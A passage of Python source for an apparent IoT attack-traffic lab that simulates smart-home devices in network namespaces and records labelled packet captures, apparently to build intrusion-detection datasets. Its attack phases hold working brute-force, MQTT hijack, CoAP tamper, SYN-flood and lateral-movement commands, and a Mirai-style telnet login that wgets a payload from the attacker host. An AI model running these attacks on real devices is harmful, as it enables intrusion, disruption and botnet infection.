            "-i", h["cmd_client_id"], "-t", h["cmd_topic"], "-q", "1", "-k", str(h["cmd_keepalive"])],
            "sub-" + h["name"])

    def hub_subscriber(self):
        hub = self.hosts["hub"]
        self.runner.spawn(self.ns("hub"), ["mosquitto_sub"] + self.mqtt_args("hub") + [
            "-i", hub["client_id"], "-t", "%s/#" % self.plan["mqtt"]["root"], "-q", "1",
            "-k", str(hub["keepalive"]), "-v"], "sub-hub", log_output=False)

    def hub_coap(self, lo, hi):
        """At its start-up the hub discovers the CoAP servers' resources
        (GET /.well-known/core), then polls them."""
        for ev in self.plan["benign_irregular"]:
            if ev["kind"] != "coap_discovery":
                continue
            if not self.wait_until(self.at(ev["t"])):
                return
            start = time.time()
            self.runner.run(self.ns("hub"), ["coap-client-notls", "-m", "get", "-B", "2",
                                             "coap://%s%s" % (ev["dst"], ev["params"]["path"])],
                            "coap-discovery", timeout=4)
            self.irregular_event(start, time.time(), ev, "hub start-up: GET %s" % ev["params"]["path"])
        self.hub_poll("coap", self.by_kind["soil"], lo, hi)

    def hub_curl(self, h, path):
        web = h["web"]
        argv = ["curl", "-s", "-o", "/dev/null", "-m", "5", "--basic", "-K", "-"]
        if self.hosts["hub"]["user_agent"]:
            argv += ["-A", self.hosts["hub"]["user_agent"]]
        rfd = self.curl_config_pipe(web["user"], self.secrets["web:" + h["name"]])
        try:
            self.runner.run(self.ns("hub"), argv + ["http://%s%s%s" % (h["ip"], web["path"], path)],
                            "curl-hub", timeout=8, stdin=rfd)
        finally:
            os.close(rfd)

    def hub_poll(self, kind, targets, lo, hi):
        rng = random.Random("%s:hub:%s" % (self.plan["seed"], kind))
        next_t = time.time() + rng.uniform(0.5, 3.0)
        while self.wait_until(next_t):
            for h in targets:
                if self.stop.is_set():
                    break
                if kind == "coap":
                    path = rng.choice(["time", "time", ""])
                    self.runner.run(self.ns("hub"), ["coap-client-notls", "-m", "get", "-B", "4",
                                                     "coap://%s/%s" % (h["ip"], path)], "coap-get", timeout=8)
                    continue
                web = h["web"]
                path = rng.choice([web["status"], web["snapshot"]]) if kind == "cam" else web["status"]
                self.hub_curl(h, path)
                if path.endswith(".jpg"):
                    self.benign_event(time.time(), time.time(), "http_basic_auth_ok", self.ip("hub"), h["ip"],
                                      "curl", "hub fetches %s%s with correct credentials" % (web["path"], path))
            next_t = time.time() + rng.uniform(lo, hi)

    def curl_config_pipe(self, user, pw):
        """Credentials go to curl through a pipe (never on a command line)."""
        rfd, wfd = os.pipe()
        data = ('user = "%s:%s"\n' % (user, pw)).encode()
        os.write(wfd, data)
        os.close(wfd)
        return rfd

    def run_benign_event(self, ev):
        kind, src, dst = ev["kind"], ev["src"], ev["dst"]
        start = time.time()
        s, d = self.hosts_by_ip[src], self.hosts_by_ip[dst]
        if kind == "telnet_admin_login":
            user, pw = self.secrets["telnet:" + d["name"]]
            commands = ["uptime", "ip -br addr", "exit"]
            self.telnet_session(self.ns(s["name"]), d["ip"], [(1.2, ""), (1.0, user), (1.0, pw)]
                                + [(1.0, c) for c in commands])
            self.benign_event(start, time.time(), kind, src, dst, "busybox-telnet",
                              "operator login with correct password; %s" % "; ".join(commands))
        elif kind == "fw_update_check":
            manifest = self.plan["firmware"][s["firmware"]]["manifest"]
            self.runner.run(self.ns(s["name"]), ["curl", "-s", "-o", "/dev/null", "-m", "5", "-A", s["user_agent"],
                                                 "http://%s%s" % (d["ip"], manifest)], "fwcheck", timeout=8)
            self.benign_event(start, time.time(), kind, src, dst, "curl",
                              "GET %s (plain HTTP, no download)" % manifest)
        elif kind == "coap_observe":
            secs = self.plan["benign_intervals"]["coap_observe_secs"]
            self.runner.run(self.ns(s["name"]), ["coap-client-notls", "-s", "%g" % secs, "-B", "%g" % (secs + 2),
                                                 "coap://%s/time" % d["ip"]], "coap-observe", timeout=secs + 6)
            self.benign_event(start, time.time(), kind, src, dst, "coap-client", "observe /time for %g s" % secs)
        elif kind == "mqtt_command":
            state = random.Random("%s:%s" % (ev["t"], dst)).choice(self.plan["mqtt"]["command_payloads"])
            hub = self.hosts["hub"]
            self.runner.run(self.ns("hub"), ["mosquitto_pub"] + self.mqtt_args("hub") + [
                "-i", hub["cmd_client_id"], "-t", d["cmd_topic"], "-q", "1", "-k", str(hub["keepalive"]), "-m", state],
                "pub-hub-cmd", timeout=8)
            self.benign_event(start, time.time(), kind, src, self.ip("cloud"), "mosquitto_pub",
                              "hub sets %s %s (topic %s)" % (d["name"], state, d["cmd_topic"]))

    def scheduler(self, events, run):
        lock = threading.Semaphore(3)
        for ev in events:
            if not self.wait_until(self.at(ev["t"])):
                return

            def go(e=ev):
                with lock:
                    if not self.stop.is_set():
                        run(e)
            self.thread(go)

    def telnet_session(self, ns, ip, steps):
        """A scripted interactive session with the busybox telnet client:
        each step waits its delay, then types its line (if any)."""
        rfd, wfd = os.pipe()
        p = self.runner.spawn(ns, ["busybox", "telnet", ip, "23"], "telnet-client", stdin=rfd, log_output=False)
        os.close(rfd)
        try:
            for delay, line in steps:
                if self.stop.wait(delay):
                    break
                if line:
                    os.write(wfd, (line + "\n").encode())
            self.stop.wait(1.0)
        finally:
            os.close(wfd)
        try:
            p.wait(timeout=4)
        except subprocess.TimeoutExpired:
            self.runner.kill(p)

    # ---- benign irregular events ------------------------------------------
    def irregular_event(self, start, end, ev, notes):
        with self.benign_lock:
            self.irregular_log.append((start, end, ev["kind"], ev["src"], ev["dst"], IRREGULAR_TOOL[ev["kind"]],
                                       notes))

    def run_irregular(self, ev):
        getattr(self, "irregular_" + ev["kind"])(ev)

    def irregular_telnet_login_mistyped(self, ev):
        """The operator mistypes the router password once (Login incorrect;
        login asks again after its fail delay), then logs in."""
        s, d = self.hosts_by_ip[ev["src"]], self.hosts_by_ip[ev["dst"]]
        user, pw = self.secrets["telnet:" + d["name"]]
        wrong = mistype(pw, random.Random("%s:mistype:%s" % (self.plan["seed"], ev["t"])))
        commands = ev["params"]["commands"]
        start = time.time()
        self.telnet_session(self.ns(s["name"]), d["ip"], [(1.2, ""), (1.0, user), (1.0, wrong), (4.5, user),
                                                          (1.0, pw)] + [(1.0, c) for c in commands])
        self.irregular_event(start, time.time(), ev, "operator mistypes the password once (Login incorrect), "
                             "then logs in as %s; %s" % (user, "; ".join(commands)))

    def irregular_firmware_download(self, ev):
        """A device updates: it fetches the manifest, then the image, over one
        connection, with its updater's User-Agent."""
        h = self.hosts_by_ip[ev["src"]]
        fw = self.plan["firmware"][h["firmware"]]
        base = "http://%s" % ev["dst"]
        start = time.time()
        rc = self.runner.run(self.ns(h["name"]), ["curl", "-s", "-m", "%d" % (FW_DOWNLOAD_SECONDS - 1), "-A",
                                                  h["user_agent"], "-o", "/dev/null", base + fw["manifest"],
                                                  "-o", "/dev/null", base + fw["image"]],
                             "fw-update", timeout=FW_DOWNLOAD_SECONDS)
        self.stop.wait(SETTLE)
        self.irregular_event(start, time.time(), ev, "%s updates: GET %s then GET %s (%d bytes) (rc=%s)" % (
            h["name"], fw["manifest"], fw["image"], fw["size"], rc))

    def irregular_device_reboot(self, ev):
        """A power cycle: the link drops (nothing more leaves the device), its
        TCP state is lost (no FIN or RST reaches the broker), its processes
        stop; after the silence the link comes up, the device announces its
        address (an unsolicited ARP, as a booting network stack does) and
        connects again: a new TCP connection and CONNECT with its client id."""
        h = self.hosts_by_ip[ev["src"]]
        name, ns = h["name"], self.ns(h["name"])
        silence = ev["params"]["silence"]
        start = time.time()
        sh(["ip", "-n", ns, "link", "set", "eth0", "down"])
        self.silent_ack[name].clear()
        self.paused[name].set()
        try:
            if not self.silent_ack[name].wait(timeout=5):
                raise LabError("%s did not stop for its reboot" % name)
            if name in self.plug_subs:
                self.runner.kill(self.plug_subs.pop(name), signal.SIGKILL)
            sh(["ip", "netns", "exec", ns, "ss", "-K", "-tn"])
            self.stop.wait(max(0.0, start + silence - time.time()))
            sh(["ip", "-n", ns, "link", "set", "eth0", "up"])
            self.wait_port_forwarding(name)
            self.runner.run(ns, ["busybox", "arping", "-U", "-c", "1", "-w", "1", "-I", "eth0", h["ip"]],
                            "arping-" + name, timeout=3)
            if h["kind"] == "plug":
                self.plug_commands(h)
        finally:
            self.paused[name].clear()
        self.stop.wait(REBOOT_RECONNECT)
        self.irregular_event(start, time.time(), ev, "%s power-cycles: link down, %.1f s silent, link up, "
                             "unsolicited ARP, new CONNECT as %s" % (name, silence, h["client_id"]))

    def wait_port_forwarding(self, name, timeout=3.0):
        """Until the host's bridge port forwards again after its link came up."""
        deadline = time.time() + timeout
        while time.time() < deadline and not self.stop.is_set():
            out = sh(["bridge", "-n", self.brns, "link", "show", "dev", self.ports[name]], check=False).stdout
            if b"state forwarding" in out:
                return
            self.stop.wait(0.05)
        raise LabError("bridge port of %s did not come back" % name)

    def start_benign(self):
        for h in self.plan["hosts"]:
            k = h["kind"]
            if k in ("temp", "hum", "plug"):
                self.paused[h["name"]] = threading.Event()
                self.silent_ack[h["name"]] = threading.Event()
            fmt = h.get("payload")
            if k == "temp":
                self.thread(self.persistent_publisher, h, lambda r, f=fmt: f % r.uniform(18, 26))
            elif k == "hum":
                self.thread(self.oneshot_publisher, h, lambda r, f=fmt: f % r.randint(30, 70))
            elif k == "plug":
                self.plug_commands(h)
                self.thread(self.persistent_publisher, h, lambda r, f=fmt: f % r.uniform(0, 120))
            elif k == "thermo":
                self.thread(self.persistent_publisher, h,
                            lambda r, f=fmt, sp=h["setpoint"]: f % (r.uniform(19, 23), sp))
        self.hub_subscriber()
        polls = self.plan["polls"]
        self.thread(self.hub_coap, *polls["coap_get"])
        self.thread(self.hub_poll, "cam", self.by_kind["cam"], *polls["http_cam"])
        self.thread(self.hub_poll, "thermo", self.by_kind["thermo"], *polls["http_thermo"])
        self.thread(self.scheduler, self.plan["benign_events"], self.run_benign_event)
        self.thread(self.scheduler, [e for e in self.plan["benign_irregular"] if e["kind"] != "coap_discovery"],
                    self.run_irregular)

    # ---- attack phases ----------------------------------------------------
    def atk_file(self, name, lines):
        path = os.path.join(self.tmp, "atk", name)
        write(path, "\n".join(lines) + "\n", 0o644)
        return path

    def run_phase(self, ph):
        name = ph["name"]
        deadline = time.time() + ph["budget"]
        notes = getattr(self, "phase_" + name)(ph, deadline)
        return notes

    def budget_left(self, deadline, floor=0.5):
        return max(floor, deadline - time.time())

    def phase_recon_nmap_syn_scan(self, ph, deadline):
        rc = self.runner.run(self.ns("atk"), ["nmap", "-n", "-sS", "-sU", "-T4", "--max-retries", "1",
                                              "--max-rate", str(NMAP_MAX_RATE), "-p", NMAP_PORTS,
                                              "--host-timeout", "%ds" % int(ph["budget"]),
                                              ph["target_ips"][0]], "nmap", timeout=self.budget_left(deadline))
        return "nmap -sS -sU ARP discovery + %s at <= %d pps (rc=%s)" % (NMAP_PORTS, NMAP_MAX_RATE, rc)

    def phase_telnet_bruteforce_hydra(self, ph, deadline):
        _, good = self.secrets["telnet:" + ph["params"]["target"]]
        users = self.atk_file("telnet-users.txt", ["root", "admin", "support"])
        pws = self.atk_file("telnet-pass.txt", [p for p in ["123456", "password", "root", "12345", "1234", "default",
                                                            "admin"] if p != good][:6])
        rc = self.runner.run(self.ns("atk"), ["hydra", "-I", "-L", users, "-P", pws, "-t", str(HYDRA_TASKS),
                                              "-w", "8", "telnet://%s" % ph["target_ips"][0]],
                             "hydra-telnet", timeout=self.budget_left(deadline), log_output=False)
        return "hydra telnet module, 3 users x 6 passwords (not in the dictionary), %d tasks, capped at %ds (rc=%s)" % (
            HYDRA_TASKS, ph["budget"], rc)

    def phase_http_basic_auth_bruteforce(self, ph, deadline):
        target = self.hosts[ph["params"]["target"]]
        good = self.secrets["web:" + target["name"]]
        guesses = [p for p in ["admin", "password", "123456", "camera", "1234", "12345", "ipcam", "root"] if p != good]
        pws = self.atk_file("http-pass.txt", guesses + [good])
        users = self.atk_file("http-users.txt", [ph["params"]["user"]])
        rc = self.runner.run(self.ns("atk"), ["hydra", "-I", "-f", "-L", users, "-P", pws, "-t", "2",
                                              target["ip"], "http-get", ph["params"]["path"]],
                             "hydra-http", timeout=self.budget_left(deadline), log_output=False)
        return "hydra http-get on nginx auth_basic %s, 1 user x %d passwords: 401s then 200 (rc=%s)" % (
            ph["params"]["path"], len(guesses) + 1, rc)

    def phase_mqtt_bruteforce(self, ph, deadline):
        user = ph["params"]["user"]
        good = self.secrets["mqtt:" + ph["params"]["plug"]]
        rng = random.Random("%s:mqttbrute" % self.plan["seed"])
        guesses = [g for g in COMMON_GUESSES if g != good]
        rng.shuffle(guesses)
        tries = [(u, g) for u, g in zip(BRUTE_WRONG_USERS, guesses)] + \
            [(user, g) for g in guesses[len(BRUTE_WRONG_USERS):]]
        tries = tries[:ph["params"]["success_at"] - 1] + [(user, good)]
        refused = ok = 0
        for u, p in tries:
            if time.time() > deadline - 0.5:
                break
            rc = self.runner.run(self.ns("atk"), ["mosquitto_pub", "-h", self.ip("cloud"), "-u", u, "-P", p,
                                                  "-i", "probe%04x" % rng.randrange(65536), "-t",
                                                  ph["params"]["topic"], "-m", "pwned", "-q", "0"],
                                 "mqtt-brute", timeout=min(3, self.budget_left(deadline)), log_output=False)
            if rc == 0:
                ok += 1
            else:
                refused += 1
            time.sleep(rng.uniform(0.05, 0.25))
        return "%d CONNECTs with wrong user/password (CONNACK 5 not authorised), %d accepted with the plug's weak password" % (
            refused, ok)

    def phase_mqtt_wildcard_subscribe(self, ph, deadline):
        user = ph["params"]["user"]
        self.runner.run(self.ns("atk"), ["mosquitto_sub", "-h", self.ip("cloud"), "-t", "#", "-W", "2"],
                        "mqtt-sub-anon", timeout=3, log_output=False)
        w = max(1, int(deadline - time.time() - 1.5))
        self.runner.run(self.ns("atk"), ["mosquitto_sub"] + self.mqtt_args(ph["params"]["plug"]) + [
            "-t", "#", "-t", "$SYS/#", "-v", "-W", str(w)], "mqtt-sub-wild", timeout=w + 1, log_output=False)
        return "anonymous '#' refused (CONNACK 5), then '#' and '$SYS/#' with stolen %s credentials for %d s" % (user, w)

    def phase_mqtt_publish_flood(self, ph, deadline):
        user = ph["params"]["user"]
        topic = ph["params"]["spoofed_topic"]
        n = ph["params"]["messages"]
        p = self.runner.spawn(self.ns("atk"), ["mosquitto_pub"] + self.mqtt_args(ph["params"]["plug"]) + [
            "-i", "fl%04x" % (self.plan["seed"] % 65536), "-t", topic, "-q", "0", "-l"], "mqtt-flood",
            stdin=subprocess.PIPE, log_output=False)
        rng = random.Random("%s:flood" % self.plan["seed"])
        sent = 0
        batch = 50
        step = FLOOD_SECONDS / (n / batch)
        try:
            while sent < n and time.time() < deadline - 1.0:
                chunk = "".join('{"t":%.1f}\n' % rng.uniform(-40, 90) for _ in range(min(batch, n - sent)))
                p.stdin.write(chunk.encode())
                p.stdin.flush()
                sent += min(batch, n - sent)
                time.sleep(step)
            p.stdin.close()
        except (BrokenPipeError, OSError):
            pass
        try:
            p.wait(timeout=self.budget_left(deadline))
        except subprocess.TimeoutExpired:
            self.runner.kill(p)
        return "%d QoS0 PUBLISH of fake readings to %s over one connection with stolen %s credentials" % (
            sent, topic, user)

    def phase_mqtt_clientid_takeover(self, ph, deadline):
        user = ph["params"]["user"]
        cid = ph["params"]["client_id"]
        w = max(1, int(deadline - time.time() - 1.5))
        self.runner.run(self.ns("atk"), ["mosquitto_sub"] + self.mqtt_args(ph["params"]["plug"]) + [
            "-i", cid, "-t", ph["params"]["topic"], "-W", str(w)], "mqtt-takeover",
            timeout=w + 1, log_output=False)
        return "CONNECT with client id %s (the live session of %s) using stolen %s credentials for %d s" % (
            cid, ph["params"]["victim"], user, w)

    def phase_coap_discovery_tamper(self, ph, deadline):
        ip = ph["target_ips"][0]
        res = ph["params"]["created_resource"]
        steps = [["-m", "get", "coap://%s/.well-known/core" % ip],
                 ["-m", "get", "coap://%s/time" % ip],
                 ["-m", "put", "-e", "tampered", "coap://%s/example_data" % ip],
                 ["-m", "put", "-e", "evil=1", "coap://%s/%s" % (ip, res)],
                 ["-m", "get", "coap://%s/.well-known/core" % ip],
                 ["-m", "delete", "coap://%s/%s" % (ip, res)],
                 # Not DELETE /time: libcoap 4.3.1's example server dies when
                 # /time is deleted while observed (the hub observes it), and
                 # the soil sensor would stay dead for the rest of the run.
                 ["-m", "delete", "coap://%s/example_data" % ip]]
        for s in steps:
            if time.time() > deadline - 0.5:
                break
            self.runner.run(self.ns("atk"), ["coap-client-notls", "-B", "2"] + s, "coap-tamper",
                            timeout=min(3, self.budget_left(deadline)), log_output=False)
            time.sleep(0.2)
        return ("GET /.well-known/core, GET /time, PUT /example_data, PUT /%s (creates), DELETE /%s, "
                "DELETE /example_data (not allowed)" % (res, res))

    def phase_http_firmware_download(self, ph, deadline):
        path = ph["params"]["path"]
        rc = self.runner.run(self.ns("atk"), ["curl", "-s", "-o", "/dev/null", "-m", str(int(ph["budget"]) - 1),
                                              "http://%s%s" % (self.ip("cloud"), path)], "fw-download",
                             timeout=self.budget_left(deadline), log_output=False)
        return "attacker downloads %s from the update server over plain HTTP (rc=%s)" % (path, rc)

    def mirai(self, ns, target_ip, creds, commands, deadline, name):
        cf = os.path.join(self.tmp, "atk", "%s-%d.json" % (name, int(time.time() * 1000)))
        write(cf, json.dumps(dict(creds=creds, commands=commands)), 0o600)
        out = os.path.join(self.tmp, "work", name + ".json")
        self.runner.run(ns, [sys.executable, os.path.abspath(__file__), "_mirai", "--target", target_ip,
                             "--spec", cf, "--result", out, "--timeout", str(max(1.0, deadline - time.time() - 1))],
                        name, timeout=self.budget_left(deadline))
        try:
            with open(out) as f:
                return json.load(f)
        except (OSError, ValueError):
            return {}

    def phase_mirai_telnet_login(self, ph, deadline):
        cam = self.hosts[ph["params"]["target"]]
        good = self.secrets["telnet:" + cam["name"]]
        rng = random.Random("%s:mirai" % self.plan["seed"])
        wrong = rng.sample([c for c in MIRAI_DEFAULTS if c != good], ph["params"]["failed_tries"])
        url = "http://%s/bins/mirai.x86" % self.ip("atk")
        cmds = ["enable", "system", "shell", "sh", "/bin/busybox MIRAI",
                "/bin/busybox wget %s -O mirai.x86; /bin/busybox MIRAI" % url, "exit", "exit"]
        res = self.mirai(self.ns("atk"), cam["ip"], [list(c) for c in wrong] + [list(good)], cmds, deadline, "mirai")
        if not res.get("successes"):
            raise LabError("the Mirai-style login with %s's default credential did not get a shell" % cam["name"])
        return "%d failed Mirai default logins then the device's default credential (one pair per connection); " \
               "enable/system/shell/sh, /bin/busybox MIRAI, camera wgets bins/mirai.x86 from the attacker over HTTP " \
               "(logins ok=%s)" % (len(wrong), res.get("successes"))

    def phase_lateral_movement(self, ph, deadline):
        src = self.hosts[ph["params"]["from"]]
        ns = self.ns(src["name"])
        rtr = self.hosts[ph["params"]["telnet_target"]]
        soil = self.hosts[ph["params"]["coap_target"]]
        thermo = self.hosts[ph["params"]["http_target"]]
        self.runner.run(ns, ["nmap", "-n", "-sS", "-Pn", "-p", "23,2323", "--max-rate", "200", "--max-retries", "0",
                             "%s.1-254" % self.plan["net_prefix"]], "lateral-nmap",
                        timeout=min(5, self.budget_left(deadline)), log_output=False)
        pair = random.Random("%s:lateral" % self.plan["seed"]).choice(MIRAI_DEFAULTS)
        self.mirai(ns, rtr["ip"], [list(pair)], [], min(deadline - 3, time.time() + 6), "lateral-telnet")
        self.runner.run(ns, ["coap-client-notls", "-B", "2", "-m", "get", "coap://%s/.well-known/core" % soil["ip"]],
                        "lateral-coap", timeout=3, log_output=False)
        self.runner.run(ns, ["curl", "-s", "-o", "/dev/null", "-m", "2",
                             "http://%s%s" % (thermo["ip"], ph["params"]["http_path"])],
                        "lateral-http", timeout=3, log_output=False)
        self.runner.run(ns, ["mosquitto_sub", "-h", self.ip("cloud"), "-t", ph["params"]["mqtt_topic"], "-W", "1"],
                        "lateral-mqtt", timeout=2, log_output=False)
        return "infected %s: telnet SYN scan (23,2323) of the /24, default-credential telnet logins to %s " \
               "(Login incorrect), CoAP discovery of %s, HTTP to %s %s (401), anonymous MQTT %s (refused)" % (
                   src["name"], rtr["name"], soil["name"], thermo["name"], ph["params"]["http_path"],
                   ph["params"]["mqtt_topic"])

    def phase_syn_flood_hping3(self, ph, deadline):
        p = ph["params"]
        rc = self.runner.run(self.ns("atk"), ["hping3", "-q", "-S", "-p", str(p["port"]), "-c", str(p["count"]),
                                              "-i", "u%d" % p["interval_us"], ph["target_ips"][0]],
                             "hping3", timeout=self.budget_left(deadline), log_output=False)
        return "hping3 -S -p %d -c %d -i u%d (no spoofing; broker answers SYN-ACK, attacker kernel RSTs) rc=%s" % (
            p["port"], p["count"], p["interval_us"], rc)

    def phase_device_silent(self, ph, deadline):
        """The label window is the silence itself: from the moment the device
        has dropped its connection until it is let go again."""
        victim = ph["params"]["victim"]
        self.silent_ack[victim].clear()
        self.paused[victim].set()
        if not self.silent_ack[victim].wait(timeout=5):
            self.paused[victim].clear()
            raise LabError("%s did not go silent" % victim)
        start = time.time()
        self.stop.wait(max(0.0, deadline - time.time()))
        end = time.time()
        self.paused[victim].clear()
        return ("%s stops sending (connection dropped, process killed) for the window, then resumes" % victim,
                start, end)

    # ---- main sequence -----------------------------------------------------
    def run(self):
        os.makedirs(self.out, exist_ok=True)
        self.tmp = tempfile.mkdtemp(prefix=self.prefix + "-")
        os.chmod(self.tmp, 0o755)
        self.registry_path = os.path.join(self.tmp, "pids.jsonl")
        self.save_state()
        self.runner = Runner(self.registry_path, os.path.join(self.tmp, "logs"), os.path.join(self.tmp, "work"))
        log("run %s: %d hosts, %d phase(s), %.0f s" % (self.runid, len(self.plan["hosts"]),
                                                       len(self.plan["phases"]), self.plan["duration"]))
        self.prepare_files()
        self.build_network()
        self.start_servers()
        self.start_capture()
        self.t0 = time.time()
        sys.stdout.write("capture started %.3f prefix %s\n" % (self.t0, self.prefix))
        sys.stdout.flush()
        self.start_benign()
        for ph in self.plan["phases"]:
            if not self.wait_until(self.at(ph["start_offset"])):
                raise LabInterrupted()
            log("phase %s" % ph["name"])
            start = time.time()
            status, err = "ok", ""
            end = None
            try:
                notes = self.run_phase(ph)
                if isinstance(notes, tuple):
                    notes, start, end = notes
            except (LabInterrupted, KeyboardInterrupt):
                raise
            except Exception as e:
                if not self.keep_going:
                    raise LabError("phase %s failed: %r" % (ph["name"], e))
                status, err, notes = "failed", repr(e), "FAILED: %r" % e
            if end is None:
                self.stop.wait(SETTLE)
                end = time.time()
            self.labels.append((start, end, ph, notes))
            self.phase_results.append((ph["name"], start, end, status, err))
        if not self.wait_until(self.at(self.plan["duration"])):
            raise LabInterrupted()
        log("duration reached")

    def stop_capture(self):
        if self.tcpdump is not None and self.tcpdump.poll() is None:
            self.tcpdump.send_signal(signal.SIGTERM)
            try:
                self.tcpdump.wait(timeout=5)
            except subprocess.TimeoutExpired:
                self.runner.kill(self.tcpdump)
        if self.tmp:
            try:
                with open(os.path.join(self.tmp, "logs", "tcpdump.log"), "rb") as f:
                    self.tcpdump_stats = "\n".join(
                        l for l in f.read().decode(errors="replace").splitlines() if "packets" in l)
            except OSError:
                pass

    def teardown(self):
        """Remove exactly what this run created. Idempotent."""
        self.stop.set()
        self.stop_capture()
        if self.runner is not None:
            self.runner.close()
        join_deadline = time.time() + 5
        for t in list(self.threads):
            t.join(timeout=max(0.05, join_deadline - time.time()))
        swept = []
        # processes still inside our namespaces are descendants of ours that left
        # their process group (login sessions, nginx workers...): end them by PID
        for attempt in range(20):
            left = []
            for ns in self.namespaces:
                r = sh(["ip", "netns", "pids", ns], check=False)
                left += [int(x) for x in r.stdout.split() if x.strip().isdigit()]
            if not left:
                break
            for pid in left:
                try:
                    os.kill(pid, signal.SIGKILL if attempt else signal.SIGTERM)
                    swept.append(pid)
                except ProcessLookupError:
                    pass
            time.sleep(0.2)
        for ns in self.namespaces:
            sh(["ip", "netns", "del", ns], check=False)
        self.finish_outputs(swept)
        if self.tmp and os.path.isdir(self.tmp):
            shutil.rmtree(self.tmp, ignore_errors=True)
        try:
            os.unlink(self.state_path)
            os.rmdir(STATE_DIR)  # only when no other run is live
        except OSError:
            pass

    def finish_outputs(self, swept):
        if self.runner is None:
            return
        entries = list(self.runner.entries)
        for e in entries:
            st = proc_starttime(e["pid"])
            e["alive_after_teardown"] = st is not None and st == e["starttime"]
        write(os.path.join(self.out, "pids.json"), json.dumps(dict(
            prefix=self.prefix, namespaces=self.namespaces, tmpdir=self.tmp, processes=entries,
            swept_pids=sorted(set(swept))), indent=1) + "\n")
        pcap = os.path.join(self.tmp, "capture.pcap") if self.tmp else None
        if pcap and os.path.exists(pcap):
            shutil.move(pcap, os.path.join(self.out, "capture.pcap"))
        if self.keep_logs and self.tmp:
            dst = os.path.join(self.out, "logs")
            shutil.rmtree(dst, ignore_errors=True)
            shutil.copytree(os.path.join(self.tmp, "logs"), dst)
        self.write_labels()
        self.write_summary()

    def write_labels(self):
        def q(s):
            return '"%s"' % str(s).replace('"', '""')
        with open(os.path.join(self.out, "labels.csv"), "w") as f:
            f.write("start_epoch,end_epoch,phase,attacker_ip,target_ips,tool,notes\n")
            for start, end, ph, notes in self.labels:
                f.write("%.3f,%.3f,%s,%s,%s,%s,%s\n" % (start, end, ph["name"], ph["attacker_ip"],
                                                       q(";".join(ph["target_ips"])), q(ph["tool"]), q(notes)))
        with open(os.path.join(self.out, "hosts.csv"), "w") as f:
            f.write("ip,mac,name,role\n")
            for h in self.plan["hosts"]:
                f.write("%s,%s,%s,%s\n" % (h["ip"], h["mac"], h["name"], q(h["role"])))
        for name, rows in (("benign_events.csv", self.benign_log), ("benign_irregular.csv", self.irregular_log)):
            with open(os.path.join(self.out, name), "w") as f:
                f.write("start_epoch,end_epoch,event,src_ip,dst_ip,tool,notes\n")
                for s, e, kind, src, dst, tool, notes in sorted(rows):
                    f.write("%.3f,%.3f,%s,%s,%s,%s,%s\n" % (s, e, kind, src, dst, q(tool), q(notes)))
        write(os.path.join(self.out, "plan.json"), json.dumps(self.plan, indent=1, sort_keys=True) + "\n")

    def write_summary(self):
        lines = ["# spanwatch lab capture summary",
                 "seed %s duration %.0f prefix %s hosts %d capture_start %s" % (
                     self.plan["seed"], self.plan["duration"], self.prefix, len(self.plan["hosts"]),
                     "%.3f" % self.t0 if self.t0 else "-"),
                 "subnet %s mqtt_root %s" % (self.plan["subnet"], self.plan["mqtt"]["root"])]
        pcap = os.path.join(self.out, "capture.pcap")
        if os.path.exists(pcap):
            lines.append("pcap capture.pcap %d bytes" % os.path.getsize(pcap))
        lines += ["tcpdump: " + l for l in self.tcpdump_stats.splitlines()]
        lines.append("# hosts")
        for h in self.plan["hosts"]:
            lines.append("host %-8s %-15s %s %s" % (h["name"], h["ip"], h["mac"], h["role"]))
        lines.append("# phases (planned offset, actual window relative to capture start)")
        done = {r[0]: r for r in self.phase_results}
        for ph in self.plan["phases"]:
            r = done.get(ph["name"])
            if r and self.t0:
                lines.append("phase %-28s planned +%6.1fs  window +%6.1f..+%6.1f  %s %s" % (
                    ph["name"], ph["start_offset"], r[1] - self.t0, r[2] - self.t0, r[3], r[4]))
            else:
                lines.append("phase %-28s planned +%6.1fs  not run" % (ph["name"], ph["start_offset"]))
        lines.append("benign_events %d" % len(self.benign_log))
        lines.append("benign_irregular %d" % len(self.irregular_log))
        complete = len(self.phase_results) == len(self.plan["phases"]) and all(
            r[3] == "ok" for r in self.phase_results)
        lines.append("verdict %s" % ("COMPLETE" if complete and self.stop_reason == "done" else self.stop_reason))
        write(os.path.join(self.out, "summary.txt"), "\n".join(lines) + "\n")


# --------------------------------------------------------------------------
# Internal helpers run inside namespaces
# --------------------------------------------------------------------------

def cmd_isolate(args):
    """Run inside a device's private mount+UTS namespace: overlay the device's
    account files on /etc, give it its own empty /run and /var/log (login
    records), set its hostname, then exec the server, or (--inetd IP:PORT)
    accept TCP connections and exec the server on each socket."""
    subprocess.run(["mount", "-t", "overlay", "overlay", "-o",
                    "lowerdir=/etc,upperdir=%s,workdir=%s" % (args.etc_upper, args.etc_work), "/etc"], check=True)
    for path in ("/run", "/var/log"):
        subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8m,mode=0755", "tmpfs", path], check=True)
    socket.sethostname(args.hostname)
    server = args.server
    if server and server[0] == "--":
        server = server[1:]
    if not server:
        raise SystemExit("_isolate: no server command")
    if not args.inetd:
        os.execv(server[0], server)
    ip, port = args.inetd.rsplit(":", 1)
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((ip, int(port)))
    srv.listen(32)
    children = set()

    def reap(*_):
        while True:
            try:
                pid, _ = os.waitpid(-1, os.WNOHANG)
            except ChildProcessError:
                return
            if pid == 0:
                return
            children.discard(pid)

    def term(*_):
        for pid in list(children):
            try:
                os.kill(pid, signal.SIGTERM)
            except ProcessLookupError:
                pass
        os._exit(0)
    signal.signal(signal.SIGCHLD, reap)
    signal.signal(signal.SIGTERM, term)
    signal.signal(signal.SIGINT, term)
    while True:
        try:
            conn, _ = srv.accept()
        except InterruptedError:
            continue
        pid = os.fork()
        if pid == 0:
            srv.close()
            for fd in (0, 1, 2):
                os.dup2(conn.fileno(), fd)
            conn.close()
            for sig in (signal.SIGCHLD, signal.SIGTERM, signal.SIGINT):
                signal.signal(sig, signal.SIG_DFL)
            os.execv(server[0], server)
        children.add(pid)
        conn.close()


IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240


class MiraiSession:
    """A Mirai-scanner-style telnet client: refuses every option, waits for the
    prompts, sends one credential pair per connection."""

    def __init__(self, ip, timeout):
        self.sock = socket.create_connection((ip, 23), timeout=timeout)
        self.buf = b""

    def _recv(self, wait):
        self.sock.settimeout(wait)
        try:
            data = self.sock.recv(4096)
        except socket.timeout:
            return True
        if not data:
            return False
